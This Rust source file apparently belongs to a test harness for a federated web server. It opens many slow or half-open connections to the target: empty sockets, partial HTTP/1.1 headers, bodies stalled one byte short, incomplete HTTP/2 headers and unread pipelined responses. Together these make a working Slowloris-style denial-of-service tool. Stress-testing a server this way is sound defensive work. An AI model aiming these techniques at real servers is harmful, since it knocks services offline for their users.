//! Connections that stay open: stalled bodies, half a head, half-open HTTP/2, answers that nobody reads.

use super::world::{ATTACKERS, World};
use std::{net::SocketAddr, sync::Arc, time::Duration};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    sync::Semaphore,
    task::JoinSet,
    time::interval,
};
use tokio_util::sync::CancellationToken;

/// A way to keep a connection open.
struct Trick {
    name: &'static str,
    bytes: fn(&World) -> Vec<u8>,
    /// Whether the answers are read.
    reads: bool,
}

const TRICKS: [Trick; 8] = [
    Trick {
        name: "nothing sent",
        bytes: |_| Vec::new(),
        reads: true,
    },
    Trick {
        name: "half a head",
        bytes: |_| b"POST /inbox HTTP/1.1\r\nhost: x\r\n".to_vec(),
        reads: true,
    },
    Trick {
        name: "stalled activity",
        bytes: stalled_activity,
        reads: true,
    },
    Trick {
        name: "stalled form",
        bytes: |world| stalled_form(world, "/interact"),
        reads: true,
    },
    Trick {
        name: "stalled confirmation",
        bytes: |world| stalled_form(world, "/comments/confirm"),
        reads: true,
    },
    Trick {
        name: "HTTP/2 preface",
        bytes: |_| PREFACE.to_vec(),
        reads: true,
    },
    Trick {
        name: "half HTTP/2 headers",
        bytes: |_| half_headers(),
        reads: true,
    },
    Trick {
        name: "unread answers",
        bytes: unread,
        reads: false,
    },
];

/// Connections of one kind, opened a second and open at once.
const PER_SECOND: u32 = 2;
const AT_ONCE: usize = 40;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn head(world: &World, path: &str, kind: &str, length: usize) -> String {
    let host = world.target.authority();
    format!(
        "POST {path} HTTP/1.1\r\nhost: {host}\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\n\r\n"
    )
}

/// All but the last byte.
fn stalled_activity(world: &World) -> Vec<u8> {
    let length = 1024 * 1024 - 1;
    let mut bytes = head(world, "/inbox", "application/activity+json", length).into_bytes();
    bytes.resize(bytes.len() + length - 1, b' ');
    bytes
}

fn stalled_form(world: &World, path: &str) -> Vec<u8> {
    let kind = "application/x-www-form-urlencoded";
    (head(world, path, kind, 50_000) + "content=x").into_bytes()
}

/// Settings, then a request that says that more headers follow (RFC 9113 6.2).
fn half_headers() -> Vec<u8> {
    let settings = [0, 0, 0, 4, 0, 0, 0, 0, 0];
    let headers = [0, 0, 1, 1, 0, 0, 0, 0, 1, 0x82];
    [PREFACE, &settings, &headers].concat()
}

fn unread(world: &World) -> Vec<u8> {
    let target = &world.target;
    let request = format!(
        "GET {} HTTP/1.1\r\nhost: {}\r\n\r\n",
        target.page,
        target.authority()
    );
    request.repeat(200).into_bytes()
}

/// Keeps opening connections of all kinds until `stop`.
pub(super) async fn run(world: Arc<World>, stop: CancellationToken) {
    let mut running = JoinSet::new();
    for trick in &TRICKS {
        running.spawn(run_one(trick, world.clone(), stop.clone()));
    }
    running.join_all().await;
}

async fn run_one(trick: &'static Trick, world: Arc<World>, stop: CancellationToken) {
    let slots = Arc::new(Semaphore::new(AT_ONCE));
    let mut ticks = interval(Duration::from_secs(1) / PER_SECOND);
    let mut open = JoinSet::new();
    loop {
        tokio::select! {
            _ = ticks.tick() => {}
            () = stop.cancelled() => break,
        }
        let Ok(slot) = slots.clone().try_acquire_owned() else {
            continue;
        };
        let world = world.clone();
        open.spawn(async move {
            world.count(trick.name, 0);
            // The node should refuse it eventually.
            let _ = keep_open(trick, &world).await;
            drop(slot);
        });
        while open.try_join_next().is_some() {}
    }
    open.shutdown().await;
}

/// Plays a trick until the node closes the connection.
async fn keep_open(trick: &Trick, world: &World) -> std::io::Result<()> {
    let mut stream = connect(world.target.address).await?;
    stream.write_all(&(trick.bytes)(world)).await?;
    if trick.reads {
        let mut rest = [0; 4096];
        while stream.read(&mut rest).await? > 0 {}
    } else {
        // The node ends it by a reset, which shows when something is written.
        while stream.write_all(b"\r\n").await.is_ok() {
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    }
    Ok(())
}

async fn connect(address: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(4096)?;
    socket.bind(SocketAddr::from((ATTACKERS, 0)))?;
    socket.connect(address).await
}
